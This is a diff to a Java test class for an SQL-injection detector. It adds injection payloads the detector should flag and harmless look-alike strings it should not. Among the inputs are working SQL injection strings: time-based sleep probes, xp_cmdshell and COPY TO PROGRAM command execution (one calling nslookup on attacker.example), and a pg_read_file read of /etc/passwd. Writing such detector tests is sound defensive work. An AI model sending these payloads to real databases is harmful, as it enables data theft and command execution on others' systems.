@@ -158,6 +158,15 @@ class SqliDetectorTest {
         "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
         "'; COPY (SELECT '') TO PROGRAM 'nslookup attacker.example'--",
         "' UNION SELECT pg_read_file('/etc/passwd')--",
+        // constant conditions in sort parameters
+        "(CASE WHEN 1=1 THEN name ELSE price END)",
+        "IF(1=1,name,price)",
+        "' or '1",
+        "1 and user_name() = 'dbo'",
+        "1 AND @@version LIKE '%Ubuntu%'",
+        "'; exec('sel'+'ect 1')--",
+        "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"*/",
+        "\\' OR 1=1--",
         // column probing
         "1 ORDER BY 10--",
         "1' ORDER BY 3#",
@@ -274,7 +283,12 @@ class SqliDetectorTest {
         "session=9a8b7c6d5e4f; _ga=GA1.1.1234567890.1714567890",
         "I'm 5'11\" tall",
         "6' 2\" and 180 lbs",
-        "12\" or 14\"");
+        "12\" or 14\"",
+        "the '80s or '90s",
+        "'80 or '90",
+        "\"harry potter\" or \"lord of the rings\"",
+        "in case when it rains then we stay home",
+        "=IF(A1=B1, \"same\", \"different\")");
   }
 
   @ParameterizedTest
@@ -302,6 +316,7 @@ class SqliDetectorTest {
         "1 UNION SELECT 1,2--|sqli-100",
         "1 AND (SELECT 1 FROM users)|sqli-101",
         "1' OR '1'='1|sqli-110",
+        "(CASE WHEN 1=1 THEN 1 ELSE 0 END)|sqli-112",
         "name=x' and 1=1 and 'a'='a|sqli-111",
         "1; DROP TABLE users|sqli-120",
         "admin'--|sqli-130",
